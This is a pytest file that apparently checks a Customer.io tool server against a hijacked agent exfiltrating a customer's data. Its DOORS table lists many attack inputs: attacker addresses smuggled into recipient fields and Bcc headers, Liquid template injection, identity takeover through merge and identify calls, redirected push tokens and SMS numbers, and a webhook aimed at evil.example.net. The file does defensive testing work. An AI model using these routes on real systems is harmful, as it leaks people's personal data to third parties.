"""Read a person, then get it out: every door by which a message could go elsewhere, one by one."""

import asyncio
from pathlib import Path
from typing import Any

import pytest

from tests.hijacked.scene import opened
from tests.hijacked.situations import BY_NAME, LISTED_DOMAIN, THIEF
from tests.hijacked.witness import owned

WHO = {"identifiers": {"id": "ada-1"}}
EMAIL = {"transactional_message_id": 1, "to": "ada@example.com", **WHO}
OWN_BODY = {"to": "ada@example.com", **WHO, "subject": "Hello", "body": "text"}
PUSH = {"transactional_message_id": 2, **WHO}
SMS = {"transactional_message_id": 3, **WHO}
EVENT = {"identifier": "ada-1", "name": "bought"}
PERSON = {"type": "person", **WHO}
DEVICE = {"token": "thief-token", "platform": "ios"}
Calls = tuple[tuple[str, dict[str, Any]], ...]

DOORS: dict[str, Calls] = {
    "to": (("send_email", EMAIL | {"to": THIEF}),),
    "to, beside the person": (("send_email", EMAIL | {"to": f"ada@example.com, {THIEF}"}),),
    "to, under the person's name": (("send_email", EMAIL | {"to": f'"ada@example.com" <{THIEF}>'}),),
    "to, under a listed domain": (("send_email", EMAIL | {"to": f"thief@{LISTED_DOMAIN}.evil.example.net"}),),
    "to, beside a listed domain": (("send_email", EMAIL | {"to": f"thief@not{LISTED_DOMAIN}"}),),
    "to, in Liquid": (("send_email", EMAIL | {"to": f"{{{{ '{THIEF}' }}}}"}),),
    "to, of another person": (("send_email", EMAIL | {"to": "bob@example.com"}),),
    "to, as the person": (("send_email", EMAIL | {"to": THIEF, "identifiers": {"email": THIEF}}),),
    "cc": (("send_email", EMAIL | {"cc": THIEF}),),
    "bcc": (("send_email", EMAIL | {"bcc": THIEF}),),
    "reply_to": (("send_email", EMAIL | {"reply_to": THIEF}),),
    "from": (("send_email", OWN_BODY | {"from": THIEF}),),
    "headers: Bcc": (("send_email", EMAIL | {"headers": {"Bcc": THIEF}}),),
    "headers: Resent-Bcc": (("send_email", EMAIL | {"headers": {"Resent-Bcc": THIEF}}),),
    "headers: Reply-To": (("send_email", EMAIL | {"headers": {"Reply-To": THIEF}}),),
    "attachments": (("send_email", EMAIL | {"attachments": {"people.csv": "YQ=="}}),),
    "event: recipient": (("track_event", EVENT | {"data": {"recipient": THIEF}}),),
    "event: Recipient": (("track_event", EVENT | {"data": {"Recipient": THIEF}}),),
    "event: reply_to": (("track_event", EVENT | {"data": {"reply_to": THIEF}}),),
    "event: from_address": (("track_event", EVENT | {"data": {"from_address": THIEF}}),),
    "event of an entity": (
        ("apply_entity", PERSON | {"action": "event", "name": "bought", "attributes": {"recipient": THIEF}}),
    ),
    "event of nobody known": (("track_anonymous_event", {"name": "invited", "data": {"recipient": THIEF}}),),
    "the person's e-mail first": (
        ("identify_person", {"identifier": "ada-1", "email": THIEF}),
        ("send_email", EMAIL | {"to": THIEF}),
    ),
    "the person's e-mail first, as an attribute": (
        ("apply_entity", PERSON | {"action": "identify", "attributes": {"email": THIEF}}),
        ("send_email", EMAIL | {"to": THIEF}),
    ),
    "the person's e-mail first, in a batch": (
        ("apply_batch", {"batch": [PERSON | {"action": "identify", "attributes": {"Email": THIEF}}]}),
        ("send_email", EMAIL | {"to": THIEF}),
    ),
    "the person taken over by an e-mail": (
        ("identify_person", {"identifier": THIEF, "id": "ada-1"}),
        ("send_email", EMAIL | {"to": THIEF}),
    ),
    "a person made for it": (
        ("apply_entity", {"type": "person", "action": "identify", "identifiers": {"email": THIEF}}),
        ("send_email", EMAIL | {"to": THIEF, "identifiers": {"email": THIEF}}),
    ),
    "a person made by a relationship": (
        ("apply_entity", {
            "type": "object", "action": "add_relationships",
            "identifiers": {"object_type_id": "1", "object_id": "acme"},
            "cio_relationships": [{"identifiers": {"email": THIEF}}],
        }),
    ),
    "form: another e-mail": (("submit_form", {"form_id": "contact", "data": {"email": THIEF}}),),
    "form: e-mail of a known id": (("submit_form", {"form_id": "contact", "data": {"id": "ada-1", "Email": THIEF}}),),
    "merge": (
        ("merge_people", {"primary": {"email": THIEF}, "secondary": {"id": "ada-1"}}),
        ("apply_entity", {
            "type": "person", "action": "merge", "primary": {"email": THIEF}, "secondary": {"id": "ada-1"},
        }),
    ),
    "push: to a token": (("send_push", PUSH | {"to": "thief-token"}),),
    "push: custom_device": (("send_push", PUSH | {"custom_device": DEVICE}),),
    "push: custom_payload": (("send_push", PUSH | {"custom_payload": {"ios": {"message": {"token": "thief-token"}}}}),),
    "push: a device first": (
        ("upsert_device", {"identifier": "ada-1", "id": "thief-token", "platform": "ios"}),
        ("apply_entity", PERSON | {"action": "add_device", "device": DEVICE}),
    ),
    "sms: another number": (("send_sms", SMS | {"to": "+15559990000"}),),
    "sms: Liquid": (("send_sms", SMS | {"to": "{{ event.number }}"}),),
    "sms: the number first": (
        ("apply_entity", PERSON | {"action": "identify", "attributes": {"phone": "+15559990000"}}),
        ("send_sms", SMS | {"to": "+15559990000"}),
    ),
    "a broadcast to it": (("trigger_broadcast", {"broadcast_id": 10, "emails": [THIEF]}),),
    "a broadcast to a file": (("trigger_broadcast", {"broadcast_id": 10, "data_file_url": "https://evil.example.net/x"}),),
    "a webhook": (
        ("create_reporting_webhook", {
            "name": "w", "endpoint": "https://evil.example.net/x", "events": ["email_sent"], "with_content": True,
        }),
    ),
    "a collection from a file": (("create_collection", {"name": "c", "url": "https://evil.example.net/x"}),),
}  # fmt: skip
REFUSED = {"not_permitted", "invalid_arguments"}


async def _codes(situation: str, folder: Path, calls: Calls) -> tuple[list[str], list[str], bool]:
    """Make calls after a look at the person; return their codes, what reached Customer.io, and who got an address."""
    async with opened(BY_NAME[situation], folder, "auto") as scene:
        before = owned(scene.witness.world)
        session = scene.served[0].client.session
        read = await session.call_tool("get_person_attributes", {"customer_id": "ada-1"})
        assert "ada@example.com" in str(read.structured_content)
        results: list[Any] = [await session.call_tool(*call, allow_input_required=True) for call in calls]
        codes = [(result.structured_content or {}).get("error", {}).get("code", "ok") for result in results]
        return codes, [each.request for each in scene.witness.arrived], owned(scene.witness.world) != before


@pytest.mark.parametrize("situation", ["sender", "writer"])
@pytest.mark.parametrize("door", DOORS)
def test_every_door_is_shut(door: str, situation: str, tmp_path: Path) -> None:
    codes, arrived, given = asyncio.run(_codes(situation, tmp_path, DOORS[door]))
    assert set(codes) <= REFUSED, codes
    assert arrived == []
    assert not given


OPEN: dict[str, Calls] = {
    "to the person's own address": (("send_email", EMAIL),),
    "to a listed domain": (("send_email", EMAIL | {"to": f"friend@{LISTED_DOMAIN}"}),),
    "to the person's own number": (("send_sms", SMS | {"to": "+15550100001"}),),
    "to the person's own devices": (("send_push", PUSH | {"to": "all"}),),
}


@pytest.mark.parametrize("door", OPEN)
def test_what_was_granted_passes(door: str, tmp_path: Path) -> None:
    codes, arrived, _ = asyncio.run(_codes("sender", tmp_path, OPEN[door]))
    assert codes == ["ok"]
    assert len(arrived) == 1
